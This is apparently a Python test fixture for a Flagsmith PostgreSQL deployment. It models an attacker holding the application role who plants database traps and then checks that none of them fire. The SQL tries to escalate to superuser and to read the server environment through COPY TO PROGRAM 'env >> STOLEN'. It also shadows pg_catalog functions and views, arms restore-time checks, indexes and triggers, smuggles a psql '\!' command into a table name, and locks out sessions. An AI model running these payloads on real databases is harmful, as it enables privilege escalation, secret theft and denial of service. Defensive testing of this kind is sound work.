"""The attacker: whoever took over a pod of the API, and so may do in the database what Flagsmith's role may.

Each trap runs `act` as soon as somebody else steps into it: it writes a line into the server's log with who that was,
and tries to become superuser and to read the secrets of the server's environment.
"""

from dataclasses import dataclass, field
from pathlib import Path

from tests.components.audit.log import RECORDED
from tests.components.flag_metrics.conftest import SCHEMA
from tests.components.postgres.conftest import Roles

# Who has no more rights than the attacker; what they step into is his own.
OWN = "{flagsmith_a, flagsmith_b, flagsmith_operator, flagsmith_restoring, drill}"
CAUGHT = "a trap caught "
ACT = """
    CREATE TABLE IF NOT EXISTS public.caught (who name);
    GRANT INSERT, SELECT ON public.caught TO PUBLIC;
    GRANT USAGE ON SCHEMA public TO PUBLIC;
    CREATE OR REPLACE FUNCTION public.act() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $act$
    BEGIN
        IF session_user = ANY ('{OWN}') AND NOT (SELECT rolsuper FROM pg_roles WHERE rolname = session_user) THEN
            RETURN;
        END IF;
        RAISE LOG 'a trap caught % as %', session_user, current_user;
        BEGIN INSERT INTO public.caught VALUES (session_user); EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN ALTER ROLE flagsmith_a SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END;
        BEGIN COPY (SELECT 1) TO PROGRAM 'env >> STOLEN'; EXCEPTION WHEN OTHERS THEN NULL; END;
    END $act$;
    -- What is immutable may be in an index, and is worked out when a statement is planned.
    CREATE OR REPLACE FUNCTION public.trap() RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
        $act$ BEGIN PERFORM public.act(); RETURN true; END $act$;
    CREATE OR REPLACE FUNCTION public.trigger_trap() RETURNS trigger LANGUAGE plpgsql AS
        $act$ BEGIN PERFORM public.act(); RETURN NEW; END $act$;
""".replace("{OWN}", OWN)
# One for every function, operator, table and view of PostgreSQL's that can be imitated.
SHADOWS = """
    DO $do$
    DECLARE found record;
    DECLARE names text;
    BEGIN
        FOR found IN SELECT p.oid, p.proname, p.pronargs, pg_get_function_identity_arguments(p.oid) AS arguments,
                p.prorettype::regtype::text AS result, p.proargtypes::oid[] AS types
            FROM pg_proc p JOIN pg_type t ON t.oid = p.prorettype
            WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset
            AND p.provariadic = 0 AND p.proallargtypes IS NULL AND t.typtype <> 'p' AND p.proname <> 'set_config'
            AND NOT EXISTS (SELECT FROM unnest(p.proargtypes) a JOIN pg_type s ON s.oid = a WHERE s.typtype = 'p')
        LOOP
            SELECT coalesce(string_agg('$' || n, ', '), '') INTO names FROM generate_series(1, found.pronargs) n;
            BEGIN
                EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS '
                    '$f$ BEGIN PERFORM public.act(); RETURN pg_catalog.%I(%s); END $f$', found.proname,
                    (SELECT coalesce(string_agg(format_type(a, NULL), ', '), '') FROM unnest(found.types) a),
                    found.result, found.proname, names);
            EXCEPTION WHEN OTHERS THEN NULL;
            END;
        END LOOP;
        FOR found IN SELECT o.oprname, o.oprleft::regtype AS l, o.oprright::regtype AS r, p.proname AS f
            FROM pg_operator o JOIN pg_proc p ON p.oid = o.oprcode
            WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprleft <> 0
        LOOP
            BEGIN
                EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)',
                    found.oprname, found.l, found.r, found.f);
            EXCEPTION WHEN OTHERS THEN NULL;
            END;
        END LOOP;
        FOR found IN SELECT relname FROM pg_class
            WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v')
        LOOP
            BEGIN
                EXECUTE format('CREATE VIEW public.%I AS SELECT * FROM pg_catalog.%I WHERE public.trap()',
                    found.relname, found.relname);
                EXECUTE format('GRANT SELECT ON public.%I TO PUBLIC', found.relname);
            EXCEPTION WHEN OTHERS THEN NULL;
            END;
        END LOOP;
    END $do$;
"""
# Not of the database, but of its sessions.
SETTINGS = """
    ALTER DATABASE flagsmith SET search_path = public, pg_catalog;
    ALTER DATABASE flagsmith SET standard_conforming_strings = off;
    SET ROLE NONE;
    ALTER ROLE flagsmith_a SET search_path = public, pg_catalog;
"""
# What is run when rows are restored.
RESTORED = """
    CREATE TABLE public.trapped (id integer CHECK (public.trap()));
    INSERT INTO public.trapped VALUES (1);
    CREATE DOMAIN public.trapping AS integer CHECK (public.trap());
    CREATE TABLE public.trapped_domain (id public.trapping);
    INSERT INTO public.trapped_domain VALUES (1);
    CREATE TABLE public.trapped_index (id integer);
    INSERT INTO public.trapped_index VALUES (1);
    CREATE INDEX trapped_by_index ON public.trapped_index ((public.trap()));
    CREATE TABLE public.trapped_column (id integer, other boolean GENERATED ALWAYS AS (public.trap()) STORED);
    INSERT INTO public.trapped_column VALUES (1);
    CREATE TABLE public.trapped_trigger (id integer DEFAULT public.trap()::integer);
    CREATE TRIGGER trapped BEFORE INSERT ON public.trapped_trigger FOR EACH ROW EXECUTE FUNCTION public.trigger_trap();
    ALTER TABLE public.trapped_trigger ENABLE ALWAYS TRIGGER trapped;
    INSERT INTO public.trapped_trigger VALUES (1);
    CREATE MATERIALIZED VIEW public.trapped_view AS SELECT public.trap();
    CREATE STATISTICS public.trapped_statistics ON id, (public.trap()) FROM public.trapped_index;
    CREATE TABLE public."odd
\\! env >> STOLEN
" (id integer);
"""
# What would keep the role that restores from being dropped, and its database's sessions from working.
HELD = """
    CREATE FUNCTION public.hold() RETURNS boolean LANGUAGE plpgsql AS $hold$
    BEGIN
        IF session_user <> 'flagsmith_restoring' THEN RETURN true; END IF;
        SET LOCAL role = none;
        CREATE TABLE public.held (id integer);
        CREATE SCHEMA held CREATE VIEW nothing AS SELECT 1;
        ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO flagsmith_a;
        PERFORM lo_create(0);
        BEGIN GRANT flagsmith_restoring TO flagsmith_a; EXCEPTION WHEN OTHERS THEN NULL; END;
        SET LOCAL role = flagsmith;
        GRANT SELECT ON public.holding TO flagsmith_restoring;
        GRANT CREATE ON SCHEMA public TO flagsmith_restoring WITH GRANT OPTION;
        CREATE POLICY held ON public.holding TO flagsmith_restoring;
        ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO flagsmith_restoring;
        ALTER DATABASE flagsmith SET role = flagsmith_restoring;
        ALTER DATABASE flagsmith SET default_transaction_read_only = on;
        ALTER DATABASE flagsmith SET statement_timeout = 1;
        ALTER DATABASE flagsmith CONNECTION LIMIT 0;
        RETURN true;
    END $hold$;
    CREATE TABLE public.holding (id integer CHECK (public.hold()));
    INSERT INTO public.holding VALUES (1);
    CREATE FUNCTION public.unless_analyzed() RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $unless$
    BEGIN
        IF current_query() LIKE 'ANALYZE%' THEN RAISE EXCEPTION 'no statistics'; END IF;
        RETURN 1;
    END $unless$;
    CREATE TABLE public.not_analyzed (id integer);
    INSERT INTO public.not_analyzed VALUES (1);
    CREATE INDEX not_analyzed_index ON public.not_analyzed ((id + public.unless_analyzed()));
"""
# A schema of ours that is not there yet.
SCHEMA_BEFORE = """
    CREATE SCHEMA feature_flags_audit;
    CREATE TABLE feature_flags_audit.cursor (only_one boolean PRIMARY KEY DEFAULT true, relation bigint,
        last_id integer, last_created timestamptz, version bigint);
    CREATE TRIGGER trapped BEFORE INSERT OR UPDATE ON feature_flags_audit.cursor
        FOR EACH ROW EXECUTE FUNCTION public.trigger_trap();
    CREATE FUNCTION feature_flags_audit.api_keys(entries integer[])
        RETURNS TABLE (entry integer, prefix text, name text) LANGUAGE sql AS
        'SELECT 1, public.trap()::text, NULL::text';
"""


@dataclass(frozen=True)
class Rights:
    """What roles there are, and what they are members of."""

    roles: tuple[tuple[object, ...], ...]
    members: tuple[tuple[object, ...], ...]


@dataclass
class Attacker:
    """The attacker, who is logged in as the application."""

    roles: Roles
    stolen: Path
    at: int = 0
    before: Rights | None = field(default=None)

    def do(self, statements: str) -> None:
        """Run statements as the application."""
        self.roles.ask("flagsmith_a", "first", statements.replace("STOLEN", str(self.stolen)))

    def waits(self) -> None:
        """All traps are set: what is caught from here on counts."""
        self.at = len(self.log)
        self.before = self.rights()

    @property
    def log(self) -> str:
        return (self.roles.server.home / "log").read_text(encoding="utf-8")

    def caught(self) -> set[str]:
        """Who stepped into a trap."""
        lines = self.log[self.at :].splitlines()
        return {line.partition(CAUGHT)[2] for line in lines if CAUGHT in line and "RAISE LOG" not in line}

    def rights(self) -> Rights:
        server = self.roles.server
        attributes = "rolsuper, rolcreaterole, rolcreatedb, rolreplication, rolbypassrls"
        return Rights(
            tuple(server.query(f"SELECT rolname, {attributes} FROM pg_roles ORDER BY 1", "postgres")),  # noqa: S608
            tuple(
                server.query(
                    "SELECT roleid::regrole::text, member::regrole::text FROM pg_auth_members ORDER BY 1, 2", "postgres"
                )
            ),
        )

    def got_nothing(self) -> None:
        """Nobody ran a trap, there are no rights that he did not have, and no secret was read."""
        assert self.caught() == set(), self.caught()
        assert self.rights() == self.before, self.rights()
        assert not self.stolen.exists(), "the environment of the server was read"


def flagsmith_tables(roles: Roles) -> None:
    """What Flagsmith's migrations make, as far as something of ours reads it, with what it wrote."""
    statements = RECORDED.read_text(encoding="utf-8")
    roles.ask("flagsmith_a", "first", f"SET search_path = public; {statements}")
    roles.ask("flagsmith_a", "first", "CREATE TABLE public.django_migrations (id serial, app text, name text)")
    roles.ask("flagsmith_a", "first", f"CREATE SCHEMA other; SET search_path = other; {SCHEMA}")
    # The recorded tables have the columns that the audit reads, these those of the flag metrics.
    roles.ask(
        "flagsmith_a",
        "first",
        """
        DO $do$
        DECLARE found record;
        BEGIN
            FOR found IN SELECT c.oid, c.relname, format('public.%I', c.relname) AS target FROM pg_class c
                WHERE c.relnamespace = 'other'::regnamespace AND c.relkind = 'r'
            LOOP
                IF to_regclass(found.target) IS NULL THEN
                    EXECUTE format('ALTER TABLE other.%I SET SCHEMA public', found.relname);
                ELSE
                    EXECUTE (SELECT coalesce(string_agg(format('ALTER TABLE %s ADD COLUMN IF NOT EXISTS %I %s',
                            found.target, attname, format_type(atttypid, atttypmod)), ';'), 'SELECT 1')
                        FROM pg_attribute WHERE attrelid = found.oid AND attnum > 0);
                END IF;
            END LOOP;
            DROP SCHEMA other CASCADE;
        END $do$;
        """,
    )


def read_by_the_readers(roles: Roles, reader: str = "") -> list[str]:
    """The tables that a reader has been granted something of: `audit`, `analytics`, or any of them."""
    rows = roles.server.query(
        "SELECT DISTINCT table_name, grantee FROM information_schema.column_privileges WHERE table_schema = 'public'"
        " AND grantee IN ('flagsmith_audit', 'flagsmith_audit_keys', 'flagsmith_analytics')"
    )
    return sorted({str(name) for name, role in rows if str(role).startswith(f"flagsmith_{reader}")})
